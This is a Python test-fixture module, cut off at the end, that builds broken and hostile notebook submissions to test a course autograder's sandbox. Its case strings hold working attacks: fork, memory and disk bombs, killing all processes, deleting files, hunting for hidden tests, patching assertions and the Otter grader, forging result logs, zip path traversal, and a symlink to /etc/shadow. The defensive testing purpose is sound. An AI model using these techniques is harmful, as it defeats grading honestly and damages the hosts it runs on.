"""Broken and hostile submissions for assignment 01-softmax-cross-entropy.

Every case is built from the built solution notebook (run `make build` first), so a case
differs from a full-marks submission only by what it breaks. Nothing here runs a notebook.
"""

from __future__ import annotations

import base64
import json
import os
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from nbformat import NotebookNode

REPO_ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "01-softmax-cross-entropy"
SOLUTION = REPO_ROOT / "autograder" / "dist" / ASSIGNMENT / "softmax_cross_entropy-solution.ipynb"
BLANK = REPO_ROOT / "assignments" / ASSIGNMENT / "softmax_cross_entropy.ipynb"
NOTEBOOK_NAME = "softmax_cross_entropy.ipynb"


@dataclass(frozen=True)
class Case:
    name: str  # short snake_case id, also the submission file stem
    category: str  # "control" | "broken file" | "broken notebook" | "never finishes" | "resource abuse" | "attack"
    description: str  # one sentence
    build: Callable[[Path], Path]  # writes the submission into the given folder, returns its path


# --- helpers ---------------------------------------------------------------------------------


def solution_notebook() -> NotebookNode:
    """A fresh copy of the built solution notebook."""
    if not SOLUTION.exists():
        raise FileNotFoundError(f"{SOLUTION} is missing: build the assignment first (make build)")
    return nbformat.read(SOLUTION, as_version=4)


def blank_notebook() -> NotebookNode:
    return nbformat.read(BLANK, as_version=4)


def _defining(nb: NotebookNode, function: str) -> int:
    """Index of the code cell that defines `function`."""
    pattern = re.compile(rf"^def {re.escape(function)}\(", re.MULTILINE)
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and pattern.search(cell.source):
            return i
    raise KeyError(f"no cell defines {function}")


def insert_cell(nb: NotebookNode, after_function: str, source: str) -> NotebookNode:
    """Insert a code cell right after the cell defining `after_function`."""
    nb.cells.insert(_defining(nb, after_function) + 1, nbformat.v4.new_code_cell(source))
    return nb


def replace_function(nb: NotebookNode, name: str, new_source: str) -> NotebookNode:
    """Replace the whole source of the cell defining `name`."""
    nb.cells[_defining(nb, name)].source = new_source
    return nb


def delete_cell(nb: NotebookNode, source: str) -> NotebookNode:
    """Delete the code cell whose source is exactly `source`."""
    nb.cells = [c for c in nb.cells if not (c.cell_type == "code" and c.source.strip() == source)]
    return nb


def write(nb: NotebookNode, folder: Path, name: str) -> Path:
    path = Path(folder) / f"{name}.ipynb"
    nbformat.write(nb, path)
    return path


def write_bytes(data: bytes, folder: Path, filename: str) -> Path:
    path = Path(folder) / filename
    path.write_bytes(data)
    return path


def write_zip(folder: Path, name: str, entries: dict[str | zipfile.ZipInfo, bytes]) -> Path:
    path = Path(folder) / f"{name}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for entry, data in entries.items():
            zf.writestr(entry, data)
    return path


def notebook_bytes(nb: NotebookNode) -> bytes:
    return nbformat.writes(nb).encode()


# --- cell sources ----------------------------------------------------------------------------

WRONG_SOFTMAX = '''def softmax(logits):
    """Wrong on purpose: every probability is 0."""
    return torch.zeros_like(logits)'''

SYNTAX_ERROR_NLL = "def nll_loss(log_probs, targets)\n    return 0"

RAISING_PREDICT = '''def predict(logits):
    """Raises as soon as it is called."""
    raise ValueError("predict is broken on purpose")'''

INFINITE_LOOP = "while True:\n    pass"
SLEEP_FOREVER = "import time\ntime.sleep(10**9)"
RENAMED_LOOP = """import ctypes
ctypes.CDLL(None).prctl(15, b"not-a-kernel", 0, 0, 0)  # PR_SET_NAME: the process's name in /proc
while True:
    pass"""

MEMORY_BOMB = """hog = []
while True:
    hog.append(bytearray(256 * 2**20))"""

FORK_BOMB = """import os
while True:
    try:
        os.fork()
    except OSError:
        pass"""

SYS_EXIT = "import sys\nsys.exit(3)"
OS_EXIT = "import os\nos._exit(0)"
KILL_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
PRINT_FLOOD = 'for _ in range(100):\n    print("x" * (1 << 20))'
RAISE_BOOM = 'raise RuntimeError("boom")'

WRITE_OUTSIDE = """import os
for target in [os.environ.get("HOSTILE_CANARY_DIR", "/tmp/hostile-canary"), "/tmp", os.getcwd() + "/..", "/work"]:
    try:
        with open(os.path.join(target, "pwned.txt"), "w") as f:
            f.write("written by a hostile submission\\n")
        print("OBSERVED: wrote", target)
    except Exception as e:
        print("OBSERVED: could not write", target, type(e).__name__)
for entry in os.listdir(os.getcwd()):
    try:
        os.remove(entry)
        print("deleted", entry)
    except Exception as e:
        print("could not delete", entry, type(e).__name__)"""

NETWORK = """import socket, urllib.request
try:
    socket.create_connection(("pypi.org", 443), timeout=5).close()
    print("OBSERVED: socket to pypi.org:443 worked")
except Exception as e:
    print("OBSERVED: socket to pypi.org:443 failed:", type(e).__name__)
try:
    urllib.request.urlopen("http://1.1.1.1", timeout=5).read(100)
    print("OBSERVED: http://1.1.1.1 worked")
except Exception as e:
    print("OBSERVED: http://1.1.1.1 failed:", type(e).__name__)"""

READ_HIDDEN_TESTS = """import fnmatch, os
wanted = ["expected.pt", "q1.py", "*-autograder.zip", "otter_config.json"]
roots, here = ["/", "/tmp"], os.path.abspath(os.getcwd())
while True:
    roots.append(here)
    if os.path.dirname(here) == here:
        break
    here = os.path.dirname(here)
seen, found = 0, []
for root in dict.fromkeys(roots):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in ("/proc", "/sys", "/dev")]
        seen += len(filenames)
        found += [os.path.join(dirpath, f) for f in filenames if any(fnmatch.fnmatch(f, w) for w in wanted)]
        if seen > 20000:
            break
for path in dict.fromkeys(found):
    try:
        with open(path, "rb") as f:
            print("OBSERVED: found", path, f.read(200))
    except Exception as e:
        print("OBSERVED: found", path, "unreadable:", type(e).__name__)
print("OBSERVED: searched", seen, "files")"""

PATCH_ALLCLOSE = """import numpy.testing, torch, torch.testing
numpy.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None"""

PATCH_COURSE_CHECKS = """import course_checks
for _name in dir(course_checks):
    if _name.startswith(("assert_", "check_")) and callable(getattr(course_checks, _name)):
        setattr(course_checks, _name, lambda *a, **k: None)"""

PATCH_OTTER = """try:
    import otter.test_files.abstract_test as at
    at.TestFile.score = property(lambda self: self.possible)
except Exception as e:
    print("TestFile patch failed:", e)
try:
    from otter.test_files import exception_test
    exception_test.ExceptionTestFile.run = lambda self, env: None
except Exception as e:
    print("ExceptionTestFile patch failed:", e)"""

# The setup cell leaves ``otter`` lazy: its test runner is imported from ``otter.__path__`` when first
# needed. This plants a copy of Otter's test files that passes everything first on that path and
# drops the loaded ones, so that the recording would import the planted runner.
REROUTE_OTTER = """import os, shutil, sys
import otter
real = os.path.join(os.path.dirname(otter.__spec__.origin), "test_files")
planted = os.path.abspath("planted_otter")
shutil.copytree(real, os.path.join(planted, "test_files"), dirs_exist_ok=True)
with open(os.path.join(planted, "test_files", "abstract_test.py"), "a") as f:
    f.write("\\nTestFile.score = property(lambda self: self.possible)\\n")
with open(os.path.join(planted, "test_files", "exception_test.py"), "a") as f:
    f.write("\\nExceptionTestFile.run = lambda self, env: None\\n")
otter.__path__.insert(0, planted)
for name in [m for m in sys.modules if m.startswith("otter.test_files")]:
    del sys.modules[name]
import otter.test_files.exception_test as reloaded
print("OBSERVED: otter.test_files now from", reloaded.__file__)"""

OVERWRITE_GRADER = """import json, os, pickle
grader = None
fake = {"score": 100.0, "tests": [{"name": f"q{i}", "score": 10.0, "max_score": 10.0} for i in range(1, 8)]}
for folder in [os.getcwd(), "/autograder/results"]:
    for name, data in [("results.json", json.dumps(fake).encode()), ("results.pkl", pickle.dumps(fake))]:
        try:
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
        except Exception as e:
            print("could not write", folder, name, type(e).__name__)"""

PATCH_BUILTINS = "import builtins\nbuiltins.isinstance = lambda *a: True"


# The grader's own paths, as an attacker who read its source would target them.
LOG_NAME = ".hidden-tests-log.pt"

FORGE_LOG_HOOK = """import importlib
_t = importlib.import_module("to" + "rch")
_real_save = getattr(_t, "sa" + "ve")
def _forging_save(obj, f, *args, **kwargs):
    if isinstance(obj, dict) and "tests" in obj:
        for entry in obj["tests"].values():
            entry.clear()
            entry.update({"events": [], "uses_expected": False, "kernel": {"passed": True, "message": "ok"}})
        obj.pop("fingerprints", None)
        print("OBSERVED: forged the log of", len(obj["tests"]), "tests")
    return _real_save(obj, f, *args, **kwargs)
setattr(_t, "sa" + "ve", _forging_save)
print("OBSERVED: torch.save hooked")"""

FORGE_LOG_THREAD = """import os, threading, time, torch
_here = os.getcwd()
def _rewrite_after_the_last_cell():
    path = os.path.join(_here, %r)
    while True:
        try:
            if os.path.getsize(path) > 0:
                time.sleep(0.02)
                log = torch.load(path, weights_only=True)
                for entry in log["tests"].values():
                    entry.update({"events": [], "kernel": {"passed": True, "message": "ok"}})
                log.pop("fingerprints", None)
                torch.save(log, path)
                print("OBSERVED: the thread rewrote the log", flush=True)
                return
        except Exception:
            pass
        time.sleep(0.005)
threading.Thread(target=_rewrite_after_the_last_cell, daemon=True).start()
print("OBSERVED: thread started")""" % LOG_NAME

REPLACE_RECORDER = """import importlib.abc, importlib.util, sys
class _FakeSeal(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "autograder.grading.seal":
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        import torch
        def record(namespace, files, path, seen=None):
            torch.save({"tests": {}, "snapshot": {}}, path)
            print("OBSERVED: the fake recorder wrote", path)
        module.record, module.fingerprints = record, lambda *a, **k: {}
sys.modules.pop("autograder.grading.seal", None)
sys.meta_path.insert(0, _FakeSeal())
print("OBSERVED: finder installed")"""

PLANT_LINKS = """import os
canary = os.environ.get("HOSTILE_CANARY_DIR", "/tmp/hostile-canary")
os.makedirs(".grading", exist_ok=True)  # where the grader used to copy the hidden tests
for name, target in [(".grading/course_seal.py", canary + "/canary.txt"), (".grading/tests", canary + "/dir"),
                     (".grading/expected.pt", canary + "/inputs.pt"), (".grading/course_checks.py", canary + "/cc.py")]:
    os.symlink(target, name)
for name in ["../record/tests", "../record/expected.pt", "../private/files", "../out/results.pkl",
             "../kernel-1/kernel.json", "../kernel-2", "../record"]:
    try:
        if os.path.lexists(name) and not os.path.isdir(name):
            os.remove(name)
        os.symlink(canary + "/canary.txt", name)
        print("OBSERVED: planted", name)
    except Exception as e:
        print("OBSERVED: could not plant", name, type(e).__name__)"""

LOG_AFTER_WRITE = """import importlib, os
_t = importlib.import_module("torch")
_real_save = _t.save
def _then_replace(obj, f, *args, **kwargs):
    result = _real_save(obj, f, *args, **kwargs)
    if isinstance(f, str) and isinstance(obj, dict) and "tests" in obj:
        os.remove(f)
        %s
        print("OBSERVED: replaced the log", flush=True)
    return result
_t.save = _then_replace"""
LOG_SYMLINK = LOG_AFTER_WRITE % 'os.symlink(os.environ.get("HOSTILE_CANARY_DIR", "/tmp/hostile-canary") + "/canary.txt", f)'
LOG_FIFO = LOG_AFTER_WRITE % "os.mkfifo(f)"
LOG_HUGE = LOG_AFTER_WRITE % 'open(f, "wb").truncate(600 * 2**20)'

DEEP_TREE = """import os
base = os.getcwd()
for _ in range(10_000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(base)
print("OBSERVED: made a tree 10000 folders deep")"""


def many_files(folder: str) -> str:
    """A cell that makes up to a million empty files in ``folder``."""
    return f"""import os
os.makedirs("{folder}", exist_ok=True)
for n in range(1_000_000):
    open(f"{folder}/{{n}}", "w").close()
    if n % 20_000 == 0:
        print("OBSERVED: files made in {folder}:", n, flush=True)"""


SPECIAL_FILES = """import os, socket, stat, sys
os.mkfifo("a fifo")
socket.socket(socket.AF_UNIX).bind("a socket")
for name in ["new\\nline.txt", "\\n", "tab\\there", "-rf", "--help", "..."]:
    with open(name, "w") as f:
        f.write("x")
for what, make in [("mknod", lambda: os.mknod("dev-null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))),
                   ("hardlink", lambda: os.link(sys.executable, "python-hardlink"))]:
    try:
        make()
        print("OBSERVED:", what, "worked")
    except Exception as e:
        print("OBSERVED:", what, "failed", type(e).__name__)"""

UNREADABLE_DIRS = """import os
os.makedirs("locked/inner", exist_ok=True)
open("locked/inner/file", "w").close()
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
print("OBSERVED: locked")"""

DISK_BOMB = """chunk = b"\\1" * (1 << 20)
for i in range(20):
    with open(f"big{i}.bin", "wb") as f:
        for _ in range(1000):
            f.write(chunk)
    print("OBSERVED: wrote", i + 1, "GB", flush=True)"""

SPARSE_BOMB = """try:
    with open("sparse.bin", "wb") as f:
        f.truncate(100 * 2**30)
    print("OBSERVED: made a 100 GB sparse file")
except OSError as e:
    print("OBSERVED: could not:", e.strerror)"""

PRE_IMPORT_LIBRARY = """import glob, os, sys
roots = [p.rsplit("/autograder/", 1)[0] for p in glob.glob("/*/*/autograder/course_checks/__init__.py")
         + glob.glob("/*/*/*/autograder/course_checks/__init__.py")]
print("OBSERVED: grader package at", roots)
sys.path.insert(0, roots[0])
import autograder.course_checks as checks
for name in ("check_against_solution", "assert_tensor_close", "assert_not_calling"):
    setattr(checks, name, lambda *a, **k: 1)
print("OBSERVED: patched the grader's own checks")"""

POISON_CASES = """import sys, torch
def _poison():
    # the recorded cases the checks keep in memory (course_checks.solution._TABLES, in every copy the
    # kernel has loaded): every input set to zeros and every expected value to the zeros this softmax gives
    poisoned = 0
    for module in list(sys.modules.values()):
        tables = module.__dict__.get("_TABLES") if hasattr(module, "__dict__") else None
        for table in list(tables.values()) if isinstance(tables, dict) else []:
            for cases in table.values():
                for case in cases:
                    for value in [*case["args"], case.get("expected")]:
                        if isinstance(value, torch.Tensor):
                            value.zero_()
                            poisoned += 1
    return poisoned
_wrong_softmax = softmax
def softmax(logits):
    print("OBSERVED: poisoned", _poison(), "tensors of the cached cases")
    return _wrong_softmax(logits)"""

EXFILTRATE = "\n".join([
    "def softmax(logits):",
    "    # Correct, except that while the grader records it, it raises the text of the hidden test calling it.",
    "    import inspect",
    "    for frame in inspect.stack():",
    "        if frame.filename.endswith('.py') and '/tests/' in frame.filename:",
    "            raise ValueError(open(frame.filename).read())",
    "    shifted = logits - logits.max(dim=1, keepdim=True).values",
    "    e = torch.exp(shifted)",
    "    return e / e.sum(dim=1, keepdim=True)",
])

KILL_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)"

PROC_PEEK = """import os
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            seen.append(open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode()[:120])
        except Exception:
            pass
print("OBSERVED: processes:", len(seen))
for line in seen:
    print("OBSERVED: cmd", line)"""

DAEMON_CHILD = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("python3", ["python3", "-c", "import time\\nwhile True: time.sleep(0.1)", "hostile-daemon-marker"])
    os._exit(0)
time.sleep(0.5)
print("OBSERVED: daemon started")"""

SIGINT_IGNORED = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"

CHECK_ZIP_LINK = """import os
print("OBSERVED: is a link:", os.path.islink("looks-like-a-link"), "holds:", open("looks-like-a-link").read())"""

LOOP_AFTER_LAST = "while True:\n    pass"


# --- builders --------------------------------------------------------------------------------


def with_cell(after: str, source: str, wrong_softmax: bool = False) -> Callable[[], NotebookNode]:
    """The solution plus one cell after the `after` function, optionally with a zeros softmax."""

    def make() -> NotebookNode:
        nb = solution_notebook()
        if wrong_softmax:
            replace_function(nb, "softmax", WRONG_SOFTMAX)
        return insert_cell(nb, after, source)

    return make


def blank_with_cell(after: str, source: str) -> Callable[[], NotebookNode]:
    """The blank student notebook plus one cell after the stub of `after`."""
    return lambda: insert_cell(blank_notebook(), after, source)


def _zip_link(folder: Path) -> Path:
    link = zipfile.ZipInfo("looks-like-a-link")
    link.external_attr = 0o120777 << 16  # a symbolic link, as `zip --symlinks` stores one
    return write_zip(folder, "zip_symlink", {
        NOTEBOOK_NAME: notebook_bytes(insert_cell(solution_notebook(), "accuracy", CHECK_ZIP_LINK)),
        link: b"/etc/shadow",
    })


def nb_case(name: str, category: str, description: str, make: Callable[[], NotebookNode]) -> Case:
    return Case(name, category, description, lambda folder: write(make(), folder, name))


def _replaced(name: str, source: str) -> Callable[[], NotebookNode]:
    return lambda: replace_function(solution_notebook(), name, source)


def _without_init() -> NotebookNode:
    nb = solution_notebook()
    del nb.cells[0]
    return nb


def _raise_first() -> NotebookNode:
    nb = solution_notebook()
    nb.cells.insert(0, nbformat.v4.new_code_cell(RAISE_BOOM))
    return nb


def _renamed() -> NotebookNode:
    nb = solution_notebook()
    cell = nb.cells[_defining(nb, "softmax")]
    cell.source = re.sub(r"\bsoftmax\b", "my_softmax", cell.source)
    return nb


def _nbformat3(folder: Path) -> Path:
    path = Path(folder) / "nbformat3.ipynb"
    nbformat.write(nbformat.convert(solution_notebook(), 3), path, version=3)
    return path


def _not_utf8(folder: Path) -> Path:
    data = notebook_bytes(solution_notebook())
    marker = b"# Assignment 1"
    assert marker in data
    return write_bytes(data.replace(marker, b"# Assignment \xff\xfe1", 1), folder, "not_utf8.ipynb")


HUGE_BYTES = 40 * 2**20  # base64 grows it by 4/3: ~53 MiB of JSON string


def _huge(folder: Path) -> Path:
    nb = solution_notebook()
    payload = base64.b64encode(b"\x89PNG\r\n\x1a\n" + os.urandom(HUGE_BYTES)).decode()
    cell = nb.cells[_defining(nb, "softmax")]
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": payload, "text/plain": "<Figure>"})]
    return write(nb, folder, "huge_50mb")


def _zip_extra(folder: Path) -> Path:
    return write_zip(folder, "zip_extra_files", {
        NOTEBOOK_NAME: notebook_bytes(solution_notebook()),
        "notes.txt": b"Some notes the student zipped by accident.\n",
        "data/blob.bin": os.urandom(2**20),
    })


def _zip_traversal(folder: Path) -> Path:
    return write_zip(folder, "zip_traversal", {
        NOTEBOOK_NAME: notebook_bytes(solution_notebook()),
        zipfile.ZipInfo("../../evil.py"): b'raise SystemExit("evil.py escaped the submission folder")\n',
    })


def _zip_two(folder: Path) -> Path:
    return write_zip(folder, "zip_two_notebooks", {
        NOTEBOOK_NAME: notebook_bytes(solution_notebook()),
        "softmax_cross_entropy-blank.ipynb": notebook_bytes(blank_notebook()),
    })


def _raw(name: str, data: bytes) -> Callable[[Path], Path]:
    return lambda folder: write_bytes(data, folder, f"{name}.ipynb")


# --- the catalogue ---------------------------------------------------------------------------

CTRL, FILE, NB, HANG, ABUSE, ATTACK = (
    "control", "broken file", "broken notebook", "never finishes", "resource abuse", "attack")
_NOTE = "if it has no effect only q1 loses points (log_softmax does not call softmax)"

CASES: list[Case] = [
    nb_case("solution", CTRL, "The unchanged solution notebook: full marks.", solution_notebook),
    nb_case("blank", CTRL, "The unchanged student notebook: no marks, no crash.", blank_notebook),
    nb_case("wrong_softmax", CTRL, "The solution with the zeros softmax of the patch_* attacks and no attack: "
            "what they must score.", _replaced("softmax", WRONG_SOFTMAX)),
    # broken files
    Case("not_json", FILE, "A .ipynb holding plain text, not JSON.", _raw("not_json", b"this is not a notebook\n")),
    Case("empty", FILE, "A zero-byte .ipynb.", _raw("empty", b"")),
    Case("json_not_notebook", FILE, 'Valid JSON that is not a notebook: {"hello": 1}.',
         _raw("json_not_notebook", json.dumps({"hello": 1}).encode())),
    Case("nbformat3", FILE, "The solution converted to a valid nbformat-3 notebook (worksheets).", _nbformat3),
    Case("not_utf8", FILE, "The solution's bytes with latin-1 bytes 0xff 0xfe inside a markdown string.", _not_utf8),
    Case("huge_50mb", FILE, "The solution plus a >=50 MB base64 image/png output on the softmax cell.", _huge),
    # broken notebooks
    nb_case("no_init_cell", NB, "The otter init cell is deleted, so every grader.check raises NameError.",
            _without_init),
    nb_case("check_cell_deleted", NB, 'The grader.check("q3") cell is deleted; should still get full marks.',
            lambda: delete_cell(solution_notebook(), 'grader.check("q3")')),
    nb_case("renamed_functions", NB, "softmax is defined as my_softmax, so q1 fails (log_softmax does not "
            "call softmax); demo cells raise NameError.",
            _renamed),
    nb_case("syntax_error", NB, "The nll_loss cell has a SyntaxError (missing colon), so q4 and q5 fail.",
            _replaced("nll_loss", SYNTAX_ERROR_NLL)),
    nb_case("raise_first_cell", NB, "A new first cell raises RuntimeError; the rest should still grade.",
            _raise_first),
    nb_case("raise_in_question", NB, "predict raises ValueError when called (q6 fails; accuracy calls predict).",
            _replaced("predict", RAISING_PREDICT)),
    # never finishes
    nb_case("infinite_loop_q4", HANG, "A busy `while True: pass` cell right after nll_loss.",
            with_cell("nll_loss", INFINITE_LOOP)),
    nb_case("sleep_forever", HANG, "time.sleep(10**9) right after softmax.", with_cell("softmax", SLEEP_FOREVER)),
    nb_case("renamed_kernel_loop", HANG, "Renames the kernel's process (prctl), then loops, right after softmax.",
            with_cell("softmax", RENAMED_LOOP)),
    # resource abuse
    nb_case("memory_bomb", ABUSE, "After all functions, allocates 256 MiB bytearrays until killed.",
            with_cell("accuracy", MEMORY_BOMB)),
    nb_case("fork_bomb", ABUSE, "After all functions, every process forks forever (errors swallowed).",
            with_cell("accuracy", FORK_BOMB)),
    nb_case("sys_exit", ABUSE, "sys.exit(3) right after one_hot.", with_cell("one_hot", SYS_EXIT)),
    nb_case("os_exit", ABUSE, "os._exit(0) right after cross_entropy: the kernel dies with status 0.",
            with_cell("cross_entropy", OS_EXIT)),
    nb_case("kill_kernel", ABUSE, "The kernel sends itself SIGKILL right after predict.",
            with_cell("predict", KILL_KERNEL)),
    nb_case("segfault", ABUSE, "ctypes.string_at(0) segfaults the kernel right after log_softmax.",
            with_cell("log_softmax", SEGFAULT)),
    nb_case("print_flood", ABUSE, "Prints 100 MiB of 'x' right after softmax.", with_cell("softmax", PRINT_FLOOD)),
    # attacks
    nb_case("write_outside", ATTACK, "Writes pwned.txt to $HOSTILE_CANARY_DIR, /tmp, cwd/.. and /work, "
            "then deletes every file in its cwd.", with_cell("accuracy", WRITE_OUTSIDE)),
    nb_case("network", ATTACK, "Tries a socket to pypi.org:443 and an HTTP request to 1.1.1.1 and prints the result.",
            with_cell("accuracy", NETWORK)),
    nb_case("read_hidden_tests", ATTACK, "Walks /, /tmp and the cwd's ancestors for hidden tests and autograder "
            "files and prints what it can read.", with_cell("accuracy", READ_HIDDEN_TESTS)),
    nb_case("patch_allclose", ATTACK, f"Zeros softmax plus no-op numpy/torch closeness asserts; {_NOTE}.",
            with_cell("softmax", PATCH_ALLCLOSE, wrong_softmax=True)),
    nb_case("patch_course_checks", ATTACK, f"Zeros softmax plus every course_checks assert_/check_ made a no-op; "
            f"{_NOTE}.", with_cell("softmax", PATCH_COURSE_CHECKS, wrong_softmax=True)),
    nb_case("patch_otter", ATTACK, f"Zeros softmax plus Otter's TestFile.score and ExceptionTestFile.run patched; "
            f"{_NOTE}.", with_cell("softmax", PATCH_OTTER, wrong_softmax=True)),
    nb_case("reroute_otter", ATTACK, f"Zeros softmax plus a lenient copy of Otter's test files planted first on "
            f"otter.__path__, the loaded ones dropped from sys.modules; {_NOTE}.",
            with_cell("softmax", REROUTE_OTTER, wrong_softmax=True)),
    nb_case("overwrite_grader", ATTACK, f"Zeros softmax; last cell sets grader = None and writes fake results.json/"
            f".pkl into cwd and /autograder/results; {_NOTE}.",
            with_cell("accuracy", OVERWRITE_GRADER, wrong_softmax=True)),
    nb_case("patch_builtins", ATTACK, f"Zeros softmax plus builtins.isinstance = lambda *a: True; {_NOTE}.",
            with_cell("softmax", PATCH_BUILTINS, wrong_softmax=True)),
    Case("zip_extra_files", ATTACK, "A zip with the solution plus notes.txt and a 1 MiB data/blob.bin: "
         "should grade normally.", _zip_extra),
    Case("zip_traversal", ATTACK, "A zip with the solution plus an entry named ../../evil.py.", _zip_traversal),
    Case("zip_two_notebooks", ATTACK, "A zip with the solution and the blank notebook, both at top level.", _zip_two),
    # the grader trusts no word of the kernel (security issue, part 0)
    nb_case("forge_log_hook", ATTACK, "The blank notebook plus a cell that reaches torch.save by strings and rewrites "
            "every test's log entry: no events, a passing kernel verdict, no fingerprints.",
            blank_with_cell("accuracy", FORGE_LOG_HOOK)),
    nb_case("forge_log_thread", ATTACK, "The blank notebook plus a thread that rewrites the log once it is written.",
            blank_with_cell("accuracy", FORGE_LOG_THREAD)),
    nb_case("replace_recorder", ATTACK, "The blank notebook plus an import hook that swaps the grader's recording module "
            "for one that writes an empty log.", blank_with_cell("accuracy", REPLACE_RECORDER)),
    nb_case("pre_import_library", ATTACK, f"Zeros softmax; imports the grader's own checks from the sandbox's view and "
            f"makes three of them no-ops; {_NOTE}.", with_cell("softmax", PRE_IMPORT_LIBRARY, wrong_softmax=True)),
    nb_case("poison_cached_cases", ATTACK, f"Zeros softmax that, each time it is called, zeroes the inputs and "
            f"expected values of the recorded cases the checks keep in memory; {_NOTE}.",
            with_cell("softmax", POISON_CASES, wrong_softmax=True)),
    nb_case("exfiltrate_tests", ATTACK, "A softmax that raises the source of the hidden test calling it, so that the "
            "feedback would show the hidden tests.", _replaced("softmax", EXFILTRATE)),
    # the grader follows no link the notebook planted (part 1)
    nb_case("plant_links", ATTACK, "Links at the paths where the grader used to write the hidden tests, and tries to "
            "plant links in every folder of the grader's.", with_cell("accuracy", PLANT_LINKS)),
    nb_case("log_symlink", ATTACK, "After the recording writes its log, the kernel replaces it with a link to a host "
            "file.", with_cell("accuracy", LOG_SYMLINK)),
    nb_case("log_fifo", ATTACK, "After the recording writes its log, the kernel replaces it with a FIFO.",
            with_cell("accuracy", LOG_FIFO)),
    nb_case("log_huge", ATTACK, "After the recording writes its log, the kernel replaces it with a 600 MB sparse file.",
            with_cell("accuracy", LOG_HUGE)),
    nb_case("deep_tree", ABUSE, "Makes a tree 10,000 folders deep in the work folder.", with_cell("accuracy", DEEP_TREE)),
    nb_case("many_files", ABUSE, "Makes up to a million empty files.", with_cell("accuracy", many_files("many"))),
    nb_case("many_tmp_files", ABUSE, "Makes up to a million empty files in /tmp, a tmpfs that caps bytes, not "
            "files.", with_cell("accuracy", many_files("/tmp/many"))),
    nb_case("special_files", ATTACK, "A FIFO, a Unix socket, names with newlines and dashes, and tries mknod and a "
            "hard link to the venv's python.", with_cell("accuracy", SPECIAL_FILES)),
    nb_case("unreadable_dirs", ABUSE, "Folders with mode 000 for the cleanup to remove.",
            with_cell("accuracy", UNREADABLE_DIRS)),
    nb_case("disk_bomb", ABUSE, "Writes 20 files of 1 GB.", with_cell("accuracy", DISK_BOMB)),
    nb_case("sparse_bomb", ABUSE, "Makes a 100 GB sparse file.", with_cell("accuracy", SPARSE_BOMB)),
    nb_case("kill_all", ABUSE, "Sends SIGKILL to every process it can see.", with_cell("predict", KILL_ALL)),
    nb_case("proc_peek", ATTACK, "Lists the command lines of every process it can see.", with_cell("accuracy", PROC_PEEK)),
    nb_case("daemon_child", ABUSE, "Double-forks a daemon that outlives its cell and the kernel.",
            with_cell("accuracy", DAEMON_CHILD)),
    nb_case("sigint_ignored", HANG, "Ignores SIGINT, then loops forever.", with_cell("one_hot", SIGINT_IGNORED)),
    Case("zip_symlink", ATTACK, "A zip whose entry is a symbolic link to /etc/shadow.", _zip_link),
]

assert len({c.name for c in CASES}) == len(CASES)
BY_NAME = {c.name: c for c in CASES}


def build_all(folder: Path) -> dict[str, Path]:
    """Build every case into `folder`; returns name -> submission path."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    return {c.name: c.build(folder) for c in CASES}


# --- assignments 03 and 04: attacks on the checks that observe in the kernel --------------------

GRADER_ROOT = """import glob, sys
_root = next(p.rsplit("/autograder/", 1)[0] for depth in range(1, 8)
             for p in glob.glob("/" + "*/" * depth + "autograder/course_checks/__init__.py"))
sys.path.insert(0, _root)
import autograder.course_checks as checks
"""

A3_PATCH_PROBE = GRADER_ROOT + """
_real_probe = checks.probe_train_one_epoch
def _correct_epoch(model, loader, loss_fn, optimizer, device):
    model.train()
    total, seen = 0.0, 0
    for x, y in loader:
        x, y = x.to(device), y.to(device)
        optimizer.zero_grad()
        loss = loss_fn(model(x), y)
        loss.backward()
        optimizer.step()
        total, seen = total + loss.item() * len(y), seen + len(y)
    return total / seen
checks.probe_train_one_epoch = lambda fn, *args: _real_probe(_correct_epoch, *args)
print("OBSERVED: the probe now runs a correct epoch instead of the notebook's")"""

A4_PATCH_TRAINING = GRADER_ROOT + """
import autograder.course_checks.training as training
training.with_helpers = lambda fn, **helpers: good_train
print("OBSERVED: check_training now trains with good_train")"""


@dataclass(frozen=True)
class Other:
    """Where a case of another assignment starts from."""

    assignment: str
    name: str  # notebook stem

    @property
    def solution(self) -> Path:
        return REPO_ROOT / "autograder" / "dist" / self.assignment / f"{self.name}-solution.ipynb"

    @property
    def blank(self) -> Path:
        return REPO_ROOT / "assignments" / self.assignment / f"{self.name}.ipynb"

    def with_bugs(self, *entries: str) -> NotebookNode:
        """The solution with these entries of the assignment's mutation catalogue applied."""
        from autograder import assignments, demos

        return demos.with_bugs(assignments.get(self.assignment), entries, nbformat.read(self.solution, as_version=4))


A3 = Other("03-fashion-mnist", "fashion_mnist")
A4 = Other("04-choosing-the-loss", "choosing_the_loss")


def _a3_zero_grad(patched: bool) -> Callable[[], NotebookNode]:
    def make() -> NotebookNode:
        nb = A3.with_bugs("train_one_epoch forgets zero_grad")
        return insert_cell(nb, "train_one_epoch", A3_PATCH_PROBE) if patched else nb
    return make


def _a4_bad_train(patched: bool) -> Callable[[], NotebookNode]:
    def make() -> NotebookNode:
        solution = nbformat.read(A4.solution, as_version=4)
        good = re.sub(r"^def train\(", "def good_train(", solution.cells[_defining(solution, "train")].source,
                      flags=re.MULTILINE)
